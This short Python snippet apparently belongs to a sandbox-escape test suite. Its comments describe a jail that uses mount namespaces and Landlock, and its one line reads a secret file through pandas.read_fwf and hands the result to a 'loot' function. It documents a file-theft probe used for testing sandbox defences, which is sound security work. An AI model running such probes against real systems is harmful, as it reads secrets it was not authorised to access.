# aim: read a file as a table by another name
# mechanism: pandas.read_table and read_fwf with a path
# language: view
# reason: a path is a file of the host
# jail: mount namespace, landlock
# plain: loot
# imports: pandas

import pandas

loot(str(list(pandas.read_fwf(secret_path).columns)))
